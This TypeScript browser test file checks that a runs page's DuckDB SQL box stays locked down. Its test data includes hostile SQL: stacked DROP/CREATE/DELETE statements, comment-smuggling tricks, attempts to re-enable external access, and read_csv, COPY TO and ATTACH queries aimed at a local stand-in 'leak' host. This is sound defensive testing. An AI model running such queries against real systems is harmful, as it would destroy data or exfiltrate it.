// The runs browser's SQL box in Chromium: every known bypass of a text filter, pasted into the box
// or carried by the address, leaves the tables as built, and no request reaches a second local
// server that counts what it receives (the page is allowed to reach it, so a leak would arrive).

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, test } from "node:test";
import { csvParse } from "d3";
import type { Page } from "playwright-core";
import { assertCleanLoad, DIST_DIR, siteSkipReason, withSitePage } from "./harness.js";

const skip = siteSkipReason();

interface Counter { origin: string; requests: string[]; close(): Promise<unknown> }

async function startCounter(): Promise<Counter> {
  const requests: string[] = [];
  // Answers like a cooperative outside host (CORS allowed, a CSV body), so a request the page
  // made would succeed and be counted, not fail quietly in the browser.
  const server = createServer((request, response) => {
    requests.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/csv" }).end("leaked\n1\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(resolve); }),
  };
}

const counter = skip ? undefined : await startCounter();
after(() => counter?.close());

/** Rows of a built run table (Framework names it stem.<hash>.csv). */
function builtRows(stem: string): number {
  const folder = join(DIST_DIR, "_file", "data", "fits");
  const file = readdirSync(folder).find((name) => name.startsWith(`${stem}.`) && name.endsWith(".csv"));
  assert.ok(file, `the build wrote no ${stem}.csv under ${folder}`);
  return csvParse(readFileSync(join(folder, file), "utf-8")).length;
}

const INTACT = "SELECT (SELECT count(*) FROM supervised) AS supervised, (SELECT count(*) FROM distillation) AS distillation, " +
  "(SELECT count(*) FROM duckdb_tables()) AS tables, (SELECT count(*) FROM duckdb_databases() WHERE NOT internal) AS databases, " +
  "current_setting('enable_external_access') AS external_access";

/** Runs `sql` through the box and returns the status or error text of its own outcome. */
async function run(page: Page, sql: string): Promise<string> {
  await page.evaluate(() => document.querySelectorAll("#sql-status, #sql-error").forEach((node) => node.setAttribute("data-stale", "")));
  await page.locator('[data-field="query"] textarea').fill(sql);
  await page.getByRole("button", { name: "Run query" }).click();
  const outcome = page.locator("#sql-status:not([data-stale]), #sql-error:not([data-stale])");
  await outcome.waitFor({ timeout: 30_000 });
  return (await outcome.textContent()) ?? "";
}

async function assertIntact(page: Page, after: string) {
  assert.match(await run(page, INTACT), /^1 row/, after);
  const cells = await page.locator("form table tbody tr").first().locator("td").allTextContents();
  const values = cells.map((text) => text.replace(/,/g, "").trim()).filter((text) => text !== "");
  assert.deepEqual(values, [String(builtRows("supervised-runs")), String(builtRows("distillation-runs")), "2", "1", "false"], after);
}

test("runs page: bypasses and outside reads leave the tables intact and send no request out", { skip }, async () => {
  const origin = counter!.origin;
  const leak = `SELECT * FROM read_csv('${origin}/leak?from=runs-link')`;
  await withSitePage(`/runs?query=${encodeURIComponent(leak)}`, async (page, diagnostics) => {
    // The address's query runs at load, under the same lockdown.
    const error = page.locator("#sql-error");
    await error.waitFor({ timeout: 60_000 });
    assert.match(await error.textContent() ?? "", /Permission Error: Scanning read_csv files is disabled/);
    await assertIntact(page, "the address's query");

    const writes = [
      "SELECT '--' AS a; CREATE TABLE pwned AS SELECT 42 AS v",
      "SELECT '/*' AS a; DROP TABLE distillation; SELECT '*/' AS b",
      'SELECT 1 AS """--", 2; DROP TABLE supervised',
      "ATTACH ':memory:' AS scratch; CREATE TABLE scratch.kept AS SELECT 1 AS v",
      "DELETE FROM supervised",
      "COMMIT; DROP TABLE distillation",
      "SET enable_external_access = true",
      "SET lock_configuration = false",
    ];
    for (const sql of writes) {
      await run(page, sql);
      await assertIntact(page, sql);
    }
    assert.match(await run(page, "SELECT * FROM pwned"), /Table with name pwned does not exist/);

    const outside = [
      `SELECT * FROM read_text('${origin}/leak.txt')`,
      `SELECT * FROM '${origin}/leak.csv'`,
      `SELECT * FROM read_parquet('${origin}/leak.parquet')`,
      `SELECT * FROM read_json_auto('${origin}/leak.json')`,
      `INSTALL parquet FROM '${origin}'; LOAD parquet`,
      `ATTACH '${origin}/leak.db' AS leak`,
      `COPY supervised TO '${origin}/out.csv'`,
    ];
    for (const sql of outside) assert.match(await run(page, sql), /DuckDB could not run this query/, sql);
    await assertIntact(page, "the outside reads");

    assert.deepEqual(counter!.requests, []);
    assert.deepEqual(diagnostics.requests.filter((url) => url.startsWith(origin)), []);
    assertCleanLoad(diagnostics);
    // The counter is reachable from this page: a request the page makes does arrive and is counted.
    assert.equal(await page.evaluate((url) => fetch(url).then((response) => response.text()), `${origin}/control`), "leaked\n1\n");
    assert.deepEqual(counter!.requests, ["/control"]);
  }, { allowOrigins: [origin] });
});
